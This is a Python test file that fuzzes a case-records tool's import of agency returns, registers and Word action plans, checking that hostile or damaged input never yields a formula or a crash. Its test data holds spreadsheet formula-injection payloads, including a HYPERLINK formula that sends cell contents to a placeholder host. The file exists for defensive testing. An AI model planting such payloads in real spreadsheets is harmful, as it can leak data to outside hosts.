"""A bounded fuzz (Hypothesis) over what comes from outside: agency returns, registers and Word action plans.

Each example is a real file written to a temporary folder: text any agency might type or paste
(formulas, control characters, long words, dates that are not dates, every script), in every format
a return arrives in, sometimes with bytes damaged. Whatever the file, caseforms answers with a
finding or a one-line error, never a traceback; a sound file loses no row; nothing written is a
formula. The examples are fixed (derandomised) and few, so the suite stays quick.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import tempfile
import zipfile
from datetime import date
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from caseforms.errors import ChronologyError, WorkbookError
from caseforms.io.returns import merge_return_files

_spec = importlib.util.spec_from_file_location("hostile", Path(__file__).parent / "files" / "hostile" / "generators.py")
assert _spec is not None and _spec.loader is not None
hostile = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(hostile)

# Fixed examples, no shrinking (a failure prints its example as found): the fuzz takes seconds, not minutes.
FUZZ = settings(derandomize=True, deadline=None, database=None, phases=(Phase.explicit, Phase.generate),
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

#: What agencies type, paste or send by mistake.
AWKWARD = st.sampled_from([
    "=1+1", "=2*21", '=HYPERLINK("http://x.example/?"&B2,"Open")', "+44 1234 567890", "-1", "@SUM(A1:A2)",
    "\t=1+1", "'=1+1", "#REF!", "#N/A", "31/02/2025", "00/00/0000", "3/2/25", "Zoë & Siân <b>O'Neill</b>",
    "\u202eevil", "line one\nline two", "\x00\x01\x1f", "\ufeff", "a" * 300, "    ", "٣/٢/٢٠٢٥", "日本語の記録",
])
TEXT = st.one_of(AWKWARD, st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30))
LATIN = st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=255, blacklist_categories=("Cc",)), max_size=30)
HEADINGS = ["Date", "Type of contact", "Details of event"]


def _rows(draw: Any, text: Any) -> list[list[str]]:
    count = draw(st.integers(1, 6))
    rows = []
    for _ in range(count):
        when = draw(st.one_of(st.sampled_from(["01/02/2025", "2025-02-03", "3 February 2025"]), text))
        # The details always say something, so every row is a row of the return.
        rows.append([when, draw(text), "Entry " + draw(text)])
    return rows


@st.composite
def returns(draw: Any) -> tuple[str, list[list[str]], int | None]:
    """A return: its format, its rows (as typed), and whether a byte of the file is damaged (where)."""
    kind = draw(st.sampled_from(["xlsx", "csv-utf8", "csv-bom", "csv-cp1252", "csv-utf16", "ods", "xls"]))
    rows = _rows(draw, LATIN if kind in ("xls", "csv-cp1252") else TEXT)
    damage = draw(st.one_of(st.none(), st.integers(0, 10_000)))
    return kind, rows, damage


def write_return(folder: Path, kind: str, rows: list[list[str]]) -> Path:
    """Write ``rows`` under the headings as an agency's program would, every cell as text."""
    table = [HEADINGS, *rows]
    if kind == "xlsx":
        import xlsxwriter

        path = folder / "return.xlsx"
        wb = xlsxwriter.Workbook(str(path))
        ws = wb.add_worksheet("Chronology")
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                ws.write_string(r, c, value)  # text as typed, never a formula
        wb.close()
        return path
    if kind.startswith("csv"):
        buffer = io.StringIO(newline="")
        csv.writer(buffer).writerows(table)
        text = buffer.getvalue()
        encoded = {"csv-utf8": text.encode("utf-8"), "csv-bom": b"\xef\xbb\xbf" + text.encode("utf-8"),
                   "csv-cp1252": text.encode("cp1252", errors="replace"), "csv-utf16": text.encode("utf-16")}[kind]
        path = folder / "return.csv"
        path.write_bytes(encoded)
        return path
    if kind == "ods":
        clean = [[escape(_xml_text(v)) for v in row] for row in table]
        return hostile._write_ods(folder / "return.ods", hostile._ods_content(clean))
    path = folder / "return.xls"
    path.write_bytes(hostile._compound_file(hostile._biff8(table)))
    return path


def _xml_text(value: str) -> str:
    # Characters XML 1.0 cannot hold at all: LibreOffice never writes them either.
    return "".join(ch for ch in value if ch in "\t\n\r" or (" " <= ch <= "\ud7ff") or ("\ue000" <= ch <= "\ufffd"))


def _damage(path: Path, where: int) -> None:
    data = bytearray(path.read_bytes())
    at = where % len(data)
    data[at] ^= 0x5A
    path.write_bytes(bytes(data))


def _formulas(path: Path) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


@settings(FUZZ, max_examples=30)
@given(returns())
def test_any_return_is_merged_whole_or_named_in_a_finding(example: tuple[str, list[list[str]], int | None]) -> None:
    from caseforms.io.master_xlsx import write_master

    kind, rows, damage = example
    with tempfile.TemporaryDirectory() as folder:
        path = write_return(Path(folder), kind, rows)
        if damage is not None:
            _damage(path, damage)
        try:
            master = merge_return_files([path], today=date(2025, 6, 1))
        except ChronologyError:
            assert damage is not None, "a sound return was not read"
            return
        if damage is None:
            # No row lost: every row typed is in the master, in full.
            assert master.rows_read == len(rows) and master.rows_merged == len(rows)
            assert not [f for f in master.findings if f.code in ("unreadable_file", "return_unreadable")]
        out = Path(folder) / "master.xlsx"
        write_master(master, out)
        assert _formulas(out) == []


@st.composite
def registers(draw: Any) -> tuple[list[dict[str, Any]], int | None]:
    cases = []
    for n in range(draw(st.integers(1, 3))):
        cases.append({"case_ref": f"SCP-2025-{n + 1:03d}", "officer": draw(TEXT), "status": draw(TEXT),
                      "referring_agency": draw(TEXT), "incident_date": draw(TEXT), "aware_date": draw(TEXT),
                      "decision_rationale": draw(TEXT)})
    return cases, draw(st.one_of(st.none(), st.integers(0, 100_000)))


@settings(FUZZ, max_examples=8)
@given(registers())
def test_any_register_is_read_whole_or_refused_in_one_line(example: tuple[list[dict[str, Any]], int | None]) -> None:
    from caseforms.io.register_xlsx import read_register
    from caseforms.profile import load_profile
    from caseforms.register.validation import validate
    from register_fixtures import write_register

    cases, damage = example
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "register.xlsx"
        write_register(path, "national", cases=[{k: _xml_text(v) for k, v in c.items()} for c in cases])
        if damage is not None:
            _damage(path, damage)
        try:
            register = read_register(path)
        except WorkbookError:
            assert damage is not None, "a sound register was refused"
            return
        validate(register, load_profile("national"), today=date(2025, 6, 1))
        if damage is None:
            assert [c.ref for c in register.cases] == [c["case_ref"] for c in cases]


@st.composite
def action_plans(draw: Any) -> tuple[list[list[str]], int | None]:
    rows = [[draw(TEXT), draw(st.one_of(st.sampled_from(["Police", "Health"]), TEXT)),
             draw(st.one_of(st.sampled_from(["01/06/2025", ""]), TEXT))] for _ in range(draw(st.integers(1, 4)))]
    return rows, draw(st.one_of(st.none(), st.integers(0, 100_000)))


def _plan(path: Path, rows: list[list[str]]) -> Path:
    import docx

    document = docx.Document()
    table = document.add_table(rows=len(rows) + 1, cols=3)
    for cell, text in zip(table.rows[0].cells, ["Action", "Owner agency", "Due date"], strict=True):
        cell.text = text
    for row, values in zip(table.rows[1:], rows, strict=True):
        for cell, text in zip(row.cells, values, strict=True):
            cell.text = _xml_text(text)
    document.save(str(path))
    return path


@settings(FUZZ, max_examples=25)
@given(action_plans())
def test_any_action_plan_is_read_whole_or_refused_in_one_line(example: tuple[list[list[str]], int | None]) -> None:
    from caseforms.io.action_plan_docx import read_action_plan

    rows, damage = example
    with tempfile.TemporaryDirectory() as folder:
        path = _plan(Path(folder) / "plan.docx", rows)
        if damage is not None:
            _damage(path, damage)
        try:
            actions = read_action_plan(path, today=date(2025, 6, 1))
        except WorkbookError:
            assert damage is not None, "a sound action plan was refused"
            return
        if damage is None:
            # No row lost: every row with an action is read, with its action as typed.
            typed = [_xml_text(r[0]).strip() for r in rows if _xml_text(r[0]).strip()]
            assert [a.values["action"] for a in actions] == typed


def test_imported_action_text_never_becomes_a_formula(tmp_path: Path) -> None:
    from caseforms.cli import main
    from caseforms.io.tracker_xlsx import build_workbook
    from caseforms.profile import load_profile

    tracker = tmp_path / "tracker.xlsx"
    build_workbook(load_profile("national"), "national").save(tracker)
    before = set(_formulas(tracker))
    plan = _plan(tmp_path / "plan.docx", [['=HYPERLINK("http://x.example/?"&B2,"Open")', "Police", "01/06/2025"],
                                          ["=1+1", "Health", "01/06/2025"], ["=2*21", "Housing", ""]])
    assert main(["tracker", str(tracker), "--import", str(plan), "--case", "SCP-2025-001", "--today", "01/06/2025",
                 "--out", str(tmp_path)]) in (0, 1)
    assert set(_formulas(tracker)) - before == set()


def test_the_fuzz_writes_real_files(tmp_path: Path) -> None:
    # The generators above must produce returns caseforms reads, or the fuzz proves nothing.
    for kind in ("xlsx", "csv-utf8", "csv-bom", "csv-cp1252", "csv-utf16", "ods", "xls"):
        folder = tmp_path / kind
        folder.mkdir()
        path = write_return(folder, kind, [["01/02/2025", "Visit", "Entry one"], ["02/02/2025", "=1+1", "Entry two"]])
        master = merge_return_files([path])
        assert master.rows_merged == 2, kind
    assert zipfile.is_zipfile(tmp_path / "xlsx" / "return.xlsx")
